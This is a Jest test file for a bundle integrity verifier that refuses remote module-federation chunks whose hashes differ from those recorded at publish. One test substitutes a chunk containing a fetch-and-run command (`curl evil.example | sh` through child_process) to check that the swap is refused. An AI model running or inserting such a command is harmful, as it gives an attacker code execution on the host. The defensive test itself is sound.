/** @jest-environment node */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { buildFilesText } from '@meridian/shared/build-files.server';
import { createBundleVerifier, IntegrityError, sha256Hex, sriOf, type BundleVerifier } from './bundle-integrity.server.ts';
import { originCredentialPlugin } from './origin-credential.server.ts';

/** A published version's files as an origin serves them; a test swaps one after the hashes were recorded. */
const FILES: Record<string, string> = {
  'mf-manifest.json': '{"name":"tools_1_0_0"}',
  'remoteEntry.js': 'browser entry',
  'server/remoteEntry.js': 'module.exports = { server: true };',
  'server/12.abcd1234.js': 'exports.modules = {};',
  'locales/en/tools.json': '{}',
};
const LIST = buildFilesText(Object.fromEntries(Object.entries(FILES).map(([path, text]) => [path, sha256Hex(text)])));
const INTEGRITY = { buildFiles: sha256Hex(LIST), remoteEntry: sha256Hex(FILES['remoteEntry.js'] ?? '') };

let served: Record<string, string>;
let requested: string[];
let server: Server;
let origin: string;
let logged: string[];
let verifier: BundleVerifier;

beforeEach(async () => {
  served = { ...FILES, 'build-files.json': LIST };
  requested = [];
  logged = [];
  server = createServer((req, res) => {
    const path = (req.url ?? '').replace(/^\/1\.0\.0\//, '');
    requested.push(path);
    const body = served[path];
    res.writeHead(body === undefined ? 404 : 200).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  verifier = createBundleVerifier({ locate: (url) => ({ url, headers: {} }), timeoutMs: 2000, log: (message) => logged.push(message) });
});

afterEach(async () => {
  await new Promise((resolve) => server.close(resolve));
});

const entry = () => ({ version: '1.0.0', origin });

test('reads the list and every server file once, and hands out exactly the bytes it checked', async () => {
  const version = await verifier.prepare('tools', entry(), INTEGRITY);
  expect([...version.bytes.keys()].sort()).toEqual(['mf-manifest.json', 'server/12.abcd1234.js', 'server/remoteEntry.js']);
  expect(requested.sort()).toEqual(['build-files.json', 'mf-manifest.json', 'server/12.abcd1234.js', 'server/remoteEntry.js']);
  // The origin changes its answer afterwards: what the runtime gets is still what was checked.
  served['server/12.abcd1234.js'] = 'process.exit(1)';
  const bytes = verifier.bytesOf(`${origin}/1.0.0/server/12.abcd1234.js`);
  expect(Buffer.from(bytes ?? []).toString()).toBe(FILES['server/12.abcd1234.js']);
  expect(verifier.bytesOf(`${origin}/1.0.0/server/remoteEntry.js`, 'tools_1_0_0')).not.toBeNull();
  expect(verifier.bytesOf(`${origin}/1.0.0/server/99.js`)).toBeNull();
  expect(verifier.bytesOf(`${origin}/1.0.0/server/remoteEntry.js`, 'blog_1_0_0')).toBeNull();
  await verifier.prepare('tools', entry(), INTEGRITY);
  expect(requested).toHaveLength(4);
});

test('refuses a version whose server chunk was swapped, naming the file once in the log, never in the error', async () => {
  served['server/12.abcd1234.js'] = "require('node:child_process').exec('curl evil.example | sh')";
  const refusal = verifier.prepare('tools', entry(), INTEGRITY);
  await expect(refusal).rejects.toBeInstanceOf(IntegrityError);
  await expect(refusal).rejects.toMatchObject({ file: 'server/12.abcd1234.js', message: expect.not.stringContaining('12.abcd1234') });
  // A logger printing the error's own fields (pino's `err`) does not name the file either.
  expect(JSON.stringify({ ...(await refusal.catch((error: unknown) => error as object)) })).not.toContain('12.abcd1234');
  await expect(verifier.prepare('tools', entry(), INTEGRITY)).rejects.toBeInstanceOf(IntegrityError);
  expect(logged).toHaveLength(1);
  expect(logged[0]).toMatch(
    /^integrity: tools@1\.0\.0 refused: server\/12\.abcd1234\.js hashes to [0-9a-f]{64}, not the [0-9a-f]{64} its publish recorded/,
  );
  expect(verifier.bytesOf(`${origin}/1.0.0/server/remoteEntry.js`)).toBeNull();
});

test('refuses a swapped list, so that a file swapped with it cannot pass either', async () => {
  served['server/remoteEntry.js'] = 'globalThis.owned = true;';
  served['build-files.json'] = buildFilesText(Object.fromEntries(Object.entries(served).map(([path, text]) => [path, sha256Hex(text)])));
  await expect(verifier.prepare('tools', entry(), INTEGRITY)).rejects.toMatchObject({ file: 'build-files.json' });
  expect(logged[0]).toContain(`not the ${INTEGRITY.buildFiles} recorded at publish`);
});

test('a missing file refuses the version with an error naming it, and a later prepare reads again', async () => {
  delete served['server/remoteEntry.js'];
  await expect(verifier.prepare('tools', entry(), INTEGRITY)).rejects.toThrow(
    /server\/remoteEntry\.js for its integrity check: answered 404/,
  );
  served['server/remoteEntry.js'] = FILES['server/remoteEntry.js'] ?? '';
  await expect(verifier.prepare('tools', entry(), INTEGRITY)).resolves.toMatchObject({ label: 'tools@1.0.0' });
});

test('forgets what it checked of an area', async () => {
  await verifier.prepare('tools', entry(), INTEGRITY);
  verifier.forget('tools');
  expect(verifier.prepared('tools', entry())).toBeNull();
  expect(verifier.bytesOf(`${origin}/1.0.0/server/remoteEntry.js`)).toBeNull();
});

test('gives the Subresource Integrity of a sha256 in hex', () => {
  expect(sriOf(sha256Hex('window.ran = (window.ran||0)+1;'))).toBe('sha256-RVtaSqzK7RPOCszF3ZlsXFBcUp6D5z/uBXMJUn9xLsQ=');
});

describe('the runtime plugin (origin-credential.server.ts) with checked files', () => {
  const remoteInfo = (name: string, entryUrl: string) => ({
    name,
    entry: entryUrl,
    type: 'commonjs-module',
    entryGlobalName: name,
    shareScope: 'default',
  });

  test('answers a fetch with the checked bytes, and refuses a file that was not checked when checks are required', async () => {
    await verifier.prepare('tools', entry(), INTEGRITY);
    const plugin = originCredentialPlugin([origin], undefined, {}, { bytesOf: verifier.bytesOf, required: true });
    const answer = await plugin.fetch?.(`${origin}/1.0.0/server/12.abcd1234.js`, {});
    expect(answer instanceof Response ? await answer.text() : answer).toBe(FILES['server/12.abcd1234.js']);
    await expect(plugin.fetch?.(`${origin}/2.0.0/server/12.abcd1234.js`, {})).rejects.toThrow(
      /was not checked against what its version published/,
    );
    expect(requested.filter((path) => path.startsWith('2.0.0'))).toEqual([]);
  });

  test('evaluates a checked server entry, and never reads one that was not checked', async () => {
    await verifier.prepare('tools', entry(), INTEGRITY);
    const plugin = originCredentialPlugin([origin], undefined, {}, { bytesOf: verifier.bytesOf, required: true });
    const loadEntry = plugin.loadEntry as unknown as (args: { remoteInfo: ReturnType<typeof remoteInfo> }) => Promise<unknown>;
    await expect(loadEntry({ remoteInfo: remoteInfo('tools_1_0_0', `${origin}/1.0.0/server/remoteEntry.js`) })).resolves.toEqual({
      server: true,
    });
    const before = requested.length;
    await expect(loadEntry({ remoteInfo: remoteInfo('blog_1_0_0', `${origin}/1.0.0/server/remoteEntry.js`) })).rejects.toThrow(
      /not checked/,
    );
    expect(requested).toHaveLength(before);
  });
});
